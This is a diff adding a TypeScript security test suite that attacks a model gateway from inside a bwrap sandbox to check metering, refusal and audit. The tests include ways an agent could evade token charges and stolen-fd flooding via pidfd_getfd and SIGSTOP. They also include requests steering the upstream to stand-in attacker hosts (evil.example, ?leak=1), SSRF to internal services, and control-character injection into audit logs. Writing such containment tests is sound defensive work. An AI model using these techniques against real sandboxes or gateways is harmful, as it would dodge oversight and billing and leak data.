@@ -1,0 +1,419 @@
+/**
+ * Attacks on the model gateway from inside the real bwrap sandbox, each against the real
+ * gateway, bridge, relay and PostgreSQL: spending without being charged (cut streams, usage past
+ * the scan window, bodies the upstream reads differently, pipelined calls), making the upstream
+ * or the proxy reach other hosts, flooding a link the sandbox stops reading, and putting
+ * control characters in what the audit and the verdict quote.
+ */
+import assert from 'node:assert/strict';
+import * as http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { and, eq } from 'drizzle-orm';
+import { sandboxEvents } from '../../db/schema';
+import { modelCallsOf } from '../../db/model-calls';
+import { startModelGateway, type ModelGateway } from '../../host/gateway/server';
+import { gatewayUrl } from '../../host/gateway/launch';
+import type { GatewaySession, SessionGrant, SessionIdentity } from '../../host/gateway/session';
+import { createCommandRunner } from '../../host/sandbox/commands';
+import { DEFAULT_SANDBOX_CONFIG } from '../../host/sandbox/config';
+import { testStack } from '../helpers/stack';
+import { sandboxTask, type SandboxTask } from '../sandbox/escape-helpers';
+
+const REAL_KEY = 'sk-real-upstream-key-never-in-the-sandbox';
+
+/** How the fake upstream answers. */
+interface UpstreamScript {
+  /** Streamed events before the final usage, and the pause between them. */
+  chunks: number;
+  chunkDelayMs: number;
+  /** Text per streamed event. */
+  padding: number;
+  /** Pause before a whole (non-streamed) answer. */
+  holdMs: number;
+}
+
+/** A local upstream speaking the three protocols, as leniently as a Python server (NaN, "true" as true). */
+interface FakeUpstream {
+  url: string;
+  bodies: string[];
+  maxInFlight: number;
+  script: UpstreamScript;
+  close(): Promise<void>;
+}
+
+const DEFAULT_SCRIPT: UpstreamScript = { chunks: 3, chunkDelayMs: 0, padding: 1, holdMs: 0 };
+
+async function startUpstream(): Promise<FakeUpstream> {
+  let inFlight = 0;
+  const up: FakeUpstream = {
+    url: '',
+    bodies: [],
+    maxInFlight: 0,
+    script: { ...DEFAULT_SCRIPT },
+    close: () => new Promise((resolve) => server.close(() => resolve())),
+  };
+  const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));
+  const sse = async (res: http.ServerResponse, first: object[], events: (i: number) => object, last: object[]) => {
+    res.writeHead(200, { 'content-type': 'text/event-stream' });
+    for (const e of first) res.write(`data: ${JSON.stringify(e)}\n\n`);
+    for (let i = 0; i < up.script.chunks && !res.destroyed; i++) {
+      res.write(`data: ${JSON.stringify(events(i))}\n\n`);
+      await pause(up.script.chunkDelayMs);
+    }
+    for (const e of last) res.write(`data: ${JSON.stringify(e)}\n\n`);
+    res.end('data: [DONE]\n\n');
+  };
+  const server = http.createServer((req, res) => {
+    const chunks: Buffer[] = [];
+    req.on('data', (c: Buffer) => chunks.push(c));
+    req.on('end', () => {
+      const text = Buffer.concat(chunks).toString('utf8');
+      up.bodies.push(text);
+      inFlight++;
+      up.maxInFlight = Math.max(up.maxInFlight, inFlight);
+      res.on('close', () => inFlight--);
+      const doc = (text ? JSON.parse(text.replace(/\bNaN\b/g, 'null')) : {}) as Record<string, unknown>;
+      const pad = 'x'.repeat(up.script.padding);
+      void (async () => {
+        if (req.url?.endsWith('/messages')) {
+          if (!doc.stream) {
+            await pause(up.script.holdMs);
+            return void res.end(JSON.stringify({ model: 'm', usage: { input_tokens: 50, output_tokens: 5 } }));
+          }
+          const start = {
+            type: 'message_start',
+            message: { model: 'm', usage: { input_tokens: 50, output_tokens: 1 } },
+          };
+          return sse(res, [start], () => ({ type: 'content_block_delta', delta: { type: 'text_delta', text: pad } }), [
+            { type: 'message_delta', usage: { output_tokens: 777 } },
+          ]);
+        }
+        if (req.url?.endsWith('/responses')) {
+          await pause(up.script.holdMs);
+          return void res.end(JSON.stringify({ model: 'm', usage: { input_tokens: 30, output_tokens: 3 } }));
+        }
+        const usage = { prompt_tokens: 40, completion_tokens: 999 };
+        if (!doc.stream) {
+          await pause(up.script.holdMs);
+          return void res.end(JSON.stringify({ model: 'm', choices: [], usage }));
+        }
+        const wantsUsage = (doc.stream_options as { include_usage?: boolean } | undefined)?.include_usage;
+        return sse(
+          res,
+          [],
+          () => ({ model: 'm', choices: [{ delta: { content: pad } }] }),
+          wantsUsage ? [{ model: 'm', choices: [], usage }] : [],
+        );
+      })();
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  up.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return up;
+}
+
+/** A node program run in the sandbox; `body` runs inside an async function with `base`, `token` and `sleep`. */
+const nodeAgent = (body: string): string[] => [
+  'node',
+  '-e',
+  `const base = process.env.GW; const token = process.env.TOKEN; const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+   (async () => { ${body} })().catch((e) => { console.log('ERR', e.message, String(e.cause)); process.exit(3); });`,
+];
+
+describe('attacks on the model gateway', function () {
+  this.timeout(120_000);
+  let gateway: ModelGateway;
+  let upstream: FakeUpstream;
+  let t: SandboxTask;
+  let runs = 0;
+
+  before(async () => {
+    gateway = await startModelGateway({
+      db: testStack().database.db,
+      secretEnv: (n) => (n === 'FAKE_KEY' ? REAL_KEY : undefined),
+    });
+    upstream = await startUpstream();
+    t = await sandboxTask();
+  });
+  after(async () => {
+    await t.release();
+    await upstream.close();
+    await gateway.close();
+  });
+  beforeEach(() => {
+    upstream.script = { ...DEFAULT_SCRIPT };
+    upstream.bodies = [];
+    upstream.maxInFlight = 0;
+  });
+
+  const grant = (budgets: SessionGrant['budgets'] = {}): SessionGrant => ({
+    upstreams: [
+      { name: 'chat', protocol: 'openai-chat', baseUrl: `${upstream.url}/v1`, apiKeyEnv: 'FAKE_KEY' },
+      { name: 'claude', protocol: 'anthropic-messages', baseUrl: upstream.url, apiKeyEnv: 'FAKE_KEY' },
+      { name: 'resp', protocol: 'openai-responses', baseUrl: `${upstream.url}/v1`, apiKeyEnv: 'FAKE_KEY' },
+    ],
+    registries: [],
+    budgets,
+  });
+
+  const identity = (purpose: SessionIdentity['purpose'] = 'agent'): SessionIdentity => ({
+    tenantId: t.tenantId,
+    taskId: t.taskId,
+    runId: `run-${++runs}`,
+    agentId: 'agent-1',
+    purpose,
+  });
+
+  async function inSandbox(session: GatewaySession, argv: string[], timeoutMs = 30_000) {
+    const runCommand = createCommandRunner({
+      db: testStack().database.db,
+      sandbox: DEFAULT_SANDBOX_CONFIG,
+      warn: () => undefined,
+    });
+    return runCommand({
+      tenantId: t.tenantId,
+      taskId: t.taskId,
+      workspacePath: t.tree,
+      argv,
+      policy: { allowShell: true },
+      timeoutMs,
+      purpose: session.identity.purpose === 'setup' ? 'setup' : 'agent',
+      env: { GW: gatewayUrl('x').replace(/\/x$/, ''), TOKEN: session.token },
+      gateway: { socketPath: gateway.socketPath, session },
+    });
+  }
+
+  const gatewayEvents = async (runId: string) =>
+    (
+      await testStack()
+        .database.db.select()
+        .from(sandboxEvents)
+        .where(and(eq(sandboxEvents.taskId, t.taskId), eq(sandboxEvents.kind, 'gateway')))
+    ).filter((r) => (r.detail as { runId?: string }).runId === runId);
+
+  const callsOf = (session: GatewaySession) =>
+    modelCallsOf(testStack().database.db, t.tenantId, t.taskId, session.identity.runId);
+
+  it('charges a stream the agent cuts before its usage arrives', async () => {
+    upstream.script = { ...DEFAULT_SCRIPT, chunks: 10, chunkDelayMs: 100 };
+    const session = await gateway.openSession(identity(), grant());
+    const run = await inSandbox(
+      session,
+      nodeAgent(`
+        const abort = new AbortController();
+        const res = await fetch(base + '/claude/v1/messages', { method: 'POST', signal: abort.signal,
+          headers: { 'x-api-key': token, 'content-type': 'application/json' },
+          body: JSON.stringify({ model: 'm', max_tokens: 1000, stream: true, messages: [{ role: 'user', content: 'long' }] }) });
+        const reader = res.body.getReader();
+        console.log('FIRST', new TextDecoder().decode((await reader.read()).value).slice(0, 40));
+        abort.abort();
+        await sleep(3000);
+        console.log('DONE');`),
+    );
+    assert.match(run.outputTail, /FIRST[\s\S]*DONE/, run.outputTail);
+    const calls = await callsOf(session);
+    assert.equal(calls.length, 1, 'the cut call is recorded');
+    assert.equal(calls[0].inputTokens, 50);
+    assert.equal(calls[0].outputTokens, 777, 'and charged for all the upstream produced');
+    assert.equal(session.totals.tokens, 827);
+  });
+
+  it('counts the usage at the end of a response longer than the usage scan window', async () => {
+    upstream.script = { ...DEFAULT_SCRIPT, chunks: 270, padding: 64 * 1024 };
+    const session = await gateway.openSession(identity(), grant());
+    const run = await inSandbox(
+      session,
+      nodeAgent(`
+        const res = await fetch(base + '/chat/v1/chat/completions', { method: 'POST',
+          headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
+          body: JSON.stringify({ model: 'm', stream: true, messages: [{ role: 'user', content: 'pad' }] }) });
+        console.log('STATUS', res.status, (await res.text()).length);`),
+    );
+    assert.match(run.outputTail, /STATUS 200 1[78]\d{6}/, run.outputTail);
+    const calls = await callsOf(session);
+    assert.equal(calls.length, 1);
+    assert.equal(calls[0].outputTokens, 999, 'the usage after 16 MB is counted');
+  });
+
+  it('refuses calls pipelined past the in-flight cap instead of sending them all upstream at once', async () => {
+    upstream.script = { ...DEFAULT_SCRIPT, holdMs: 1000 };
+    const session = await gateway.openSession(identity(), grant());
+    const run = await inSandbox(
+      session,
+      nodeAgent(`
+        const body = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: 'hi' }] });
+        const req = 'POST /u/chat/v1/chat/completions HTTP/1.1\\r\\nhost: x\\r\\nauthorization: Bearer ' + token +
+          '\\r\\ncontent-type: application/json\\r\\ncontent-length: ' + body.length + '\\r\\n\\r\\n' + body;
+        const s = require('net').connect(8377, '127.0.0.1', () => s.write(req.repeat(40)));
+        let seen = '';
+        s.on('data', (c) => (seen += c));
+        await sleep(4000);
+        console.log('OK', (seen.match(/HTTP\\/1.1 200/g) || []).length, 'REFUSED', (seen.match(/HTTP\\/1.1 429/g) || []).length);
+        s.destroy();`),
+    );
+    assert.match(run.outputTail, /OK \d+ REFUSED \d+/, run.outputTail);
+    assert.ok(upstream.maxInFlight <= 8, `the upstream had ${upstream.maxInFlight} calls of one session at once`);
+    const reasons = (await gatewayEvents(session.identity.runId)).map((e) => e.reason ?? '');
+    assert.ok(
+      reasons.some((r) => /calls at once/.test(r)),
+      reasons.join('; '),
+    );
+  });
+
+  it('stops reading a sandbox that took its link and stopped reading it', async () => {
+    const session = await gateway.openSession(identity(), grant());
+    // The agent takes the relay's fd 4 (pidfd_getfd: same user), stops the relay, and floods
+    // the link with requests whose refusals echo 8 KB each, never reading a byte back.
+    const py = `
+import ctypes, os, signal, socket, struct, time
+libc = ctypes.CDLL(None, use_errno=True)
+ppid = os.getppid()
+fd = libc.syscall(438, libc.syscall(434, ppid, 0), 4, 0)
+print('FD', fd, ctypes.get_errno(), flush=True)
+os.kill(ppid, signal.SIGSTOP)
+s = socket.socket(fileno=fd)
+s.settimeout(3)
+frame = lambda t, i, p=b'': struct.pack('>BII', t, i, len(p)) + p
+data = ('GET http://' + 'h' * 8000 + '.example/ HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n').encode() * 2000
+try:
+    s.sendall(frame(1, 900))
+    for at in range(0, len(data), 1 << 20):
+        s.sendall(frame(2, 900, data[at:at + (1 << 20)]))
+    print('SENT ALL', flush=True)
+except socket.timeout:
+    print('BLOCKED', flush=True)
+time.sleep(1)
+os.kill(ppid, signal.SIGKILL)
+`;
+    const run = await inSandbox(session, ['python3', '-c', py]);
+    assert.match(run.outputTail, /FD [1-9]/, run.outputTail);
+    let served = -1;
+    for (let now = (await gatewayEvents(session.identity.runId)).length; now !== served;) {
+      served = now;
+      await new Promise((r) => setTimeout(r, 1500));
+      now = (await gatewayEvents(session.identity.runId)).length;
+    }
+    assert.ok(served < 1000, `the gateway answered ${served} of 2000 requests nobody read`);
+  });
+
+  it('audits an upstream name carrying control characters, and quotes no control characters or pages of text', async () => {
+    const session = await gateway.openSession(identity(), grant());
+    const run = await inSandbox(
+      session,
+      nodeAgent(`
+        const res = await fetch(base + '/%00x%0Ay%1b[2J/v1/messages', { method: 'POST', headers: { 'x-api-key': token }, body: '{}' });
+        console.log('STATUS', res.status);
+        const s = require('net').connect(8377, '127.0.0.1', () => s.write('CONNECT ' + 'a'.repeat(8000) + ':443 HTTP/1.1\\r\\n\\r\\n'));
+        s.on('data', (c) => console.log('CONNECT', String(c).split('\\r\\n')[0]));
+        await sleep(500);`),
+    );
+    assert.match(run.outputTail, /STATUS 403/, run.outputTail);
+    const events = await gatewayEvents(session.identity.runId);
+    assert.equal(events.length, 2, JSON.stringify(events.map((e) => e.reason)));
+    for (const e of events) {
+      assert.doesNotMatch(`${e.path}${e.reason}`, /[\u0000-\u001f]/, 'no control characters');
+      assert.ok((e.reason ?? '').length <= 600, `a reason of ${e.reason?.length} characters`);
+    }
+  });
+
+  it('refuses a body the upstream could read differently, and forwards only what it read', async () => {
+    const session = await gateway.openSession(identity(), grant());
+    const run = await inSandbox(
+      session,
+      nodeAgent(`
+        const send = async (body) => {
+          const res = await fetch(base + '/chat/v1/chat/completions', { method: 'POST', body,
+            headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' } });
+          console.log('STATUS', res.status, (await res.text()).slice(0, 80).replace(/\\n/g, ' '));
+        };
+        const m = '"model":"m","messages":[{"role":"user","content":"hi"}]';
+        await send('{' + m + ',"stream":"true"}');
+        await send('{' + m + ',"stream":true,"temperature":NaN}');
+        await send('{' + m + ',"stream":true,"stream":false}');`),
+    );
+    assert.match(run.outputTail, /STATUS 400[\s\S]*STATUS 400[\s\S]*STATUS 200/, run.outputTail);
+    assert.equal(upstream.bodies.length, 1, upstream.bodies.join('\n'));
+    assert.equal(upstream.bodies[0].match(/"stream"/g)?.length, 1, 'the upstream reads the body the gateway read');
+    const calls = await callsOf(session);
+    assert.deepEqual(
+      calls.map((c) => [c.inputTokens, c.outputTokens]),
+      [[40, 999]],
+    );
+  });
+
+  it('refuses requests that would make the upstream fetch a URL, reach an MCP server or run on after the call', async () => {
+    const session = await gateway.openSession(identity(), grant());
+    const user = (content: unknown) => ({ model: 'm', max_tokens: 10, messages: [{ role: 'user', content }] });
+    const refused = [
+      [
+        'claude/v1/messages',
+        { ...user('hi'), mcp_servers: [{ type: 'url', url: 'https://evil.example/mcp', name: 'x' }] },
+      ],
+      ['claude/v1/messages', { ...user('hi'), tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }],
+      ['claude/v1/messages', { ...user('hi'), tools: [{ type: 'web_search_20250305', name: 'web_search' }] }],
+      ['claude/v1/messages', user([{ type: 'image', source: { type: 'url', url: 'https://evil.example/?leak=1' } }])],
+      ['chat/v1/chat/completions', user([{ type: 'image_url', image_url: { url: 'https://evil.example/x.png' } }])],
+      ['resp/v1/responses', { model: 'm', input: 'hi', tools: [{ type: 'mcp', server_url: 'https://evil.example' }] }],
+      [
+        'resp/v1/responses',
+        {
+          model: 'm',
+          input: [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://evil.example/f' }] }],
+        },
+      ],
+      ['resp/v1/responses', { model: 'm', input: 'hi', background: true }],
+    ];
+    const allowed = [
+      // A client-side tool call whose input names a URL is the agent's own business.
+      [
+        'claude/v1/messages',
+        user([{ type: 'tool_use', id: 't', name: 'fetch', input: { url: 'https://docs.example' } }]),
+      ],
+      ['chat/v1/chat/completions', user([{ type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } }])],
+      ['resp/v1/responses', { model: 'm', input: 'hi', tools: [{ type: 'function', name: 'f', parameters: {} }] }],
+    ];
+    const run = await inSandbox(
+      session,
+      nodeAgent(`
+        for (const [path, body] of ${JSON.stringify([...refused, ...allowed])}) {
+          const res = await fetch(base + '/' + path, { method: 'POST', body: JSON.stringify(body),
+            headers: { authorization: 'Bearer ' + token, 'x-api-key': token, 'content-type': 'application/json' } });
+          console.log('STATUS', res.status);
+        }`),
+    );
+    const statuses = [...run.outputTail.matchAll(/STATUS (\d+)/g)].map((m) => Number(m[1]));
+    assert.deepEqual(statuses, [...refused.map(() => 403), ...allowed.map(() => 200)], run.outputTail);
+    assert.equal(upstream.bodies.length, allowed.length, 'no refused request reached the upstream');
+    assert.ok(!upstream.bodies.some((b) => b.includes('evil.example')));
+    assert.equal((await gatewayEvents(session.identity.runId)).length, refused.length);
+  });
+
+  it("refuses a registry on the worker's own network (its database, Temporal, cloud metadata)", async () => {
+    let hits = 0;
+    const internal = http.createServer((_req, res) => void (hits++, res.end('internal')));
+    await new Promise<void>((resolve) => internal.listen(0, '127.0.0.1', resolve));
+    const port = (internal.address() as AddressInfo).port;
+    try {
+      const session = await gateway.openSession(identity('setup'), {
+        upstreams: [],
+        registries: [`127.0.0.1:${port}`, `localhost:${port}`],
+        budgets: {},
+      });
+      const run = await inSandbox(session, [
+        'sh',
+        '-c',
+        `curl -s -o /dev/null -w "HTTP %{http_code}\\n" http://127.0.0.1:${port}/; curl -s -o /dev/null -w "HTTP %{http_code}\\n" http://localhost:${port}/; curl -sS https://localhost:${port}/ 2>&1 | head -c 300; echo`,
+      ]);
+      assert.match(run.outputTail, /HTTP 403\nHTTP 403\n.*403/, run.outputTail);
+      assert.equal(hits, 0, 'the internal service was never reached');
+      const reasons = (await gatewayEvents(session.identity.runId)).filter((e) => !e.allowed).map((e) => e.reason);
+      assert.equal(reasons.length, 3, reasons.join('; '));
+      assert.ok(
+        reasons.every((r) => /worker's own network/.test(r ?? '')),
+        reasons.join('; '),
+      );
+    } finally {
+      await new Promise((r) => internal.close(r));
+    }
+  });
+});
